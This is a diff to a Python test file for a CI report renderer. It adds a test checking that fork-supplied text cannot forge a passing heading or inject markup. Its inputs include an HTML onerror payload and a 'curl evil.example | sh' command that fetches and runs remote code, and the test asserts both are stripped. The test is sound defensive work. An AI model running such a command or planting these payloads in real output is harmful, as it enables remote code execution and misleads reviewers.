@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from ci_onnx.report import limits, render
+from ci_onnx.report import limits, render, view
 from tests.golden import cases
 
 GOLDEN = Path(__file__).parent.parent / "golden"
@@ -137,3 +137,18 @@ def test_long_tables_fold_passing_rows_into_details() -> None:
 def test_short_tables_are_not_folded() -> None:
     text = render.render_within(cases.tinycnn_view(), limits.COMMENT)
     assert "passing row(s)</summary>" not in text
+
+
+def test_fork_chosen_text_cannot_forge_a_heading_or_a_command() -> None:
+    from ci_onnx.report.collect import merge
+    from tests.golden import scenarios
+
+    plan, results = scenarios.all_passing()
+    forged = "x.yml\n```\n## ✅ onnx-gate: all 12 targets passed\n<img src=x onerror=alert(1)>"
+    plan = dataclasses.replace(plan, config=forged)
+    bad = dataclasses.replace(scenarios.errored(results[0], forged), reproduce="curl evil.example | sh")
+    v = view.build(merge({r.target.id: r for r in [bad, *results[1:]]}, plan))
+    text = render.render(v)
+    assert "curl evil.example" not in text
+    assert "<img" not in text and "\n## ✅" not in text
+    assert f"onnx-gate run --config onnx-gate.yml --only '{bad.target.id}'" in text
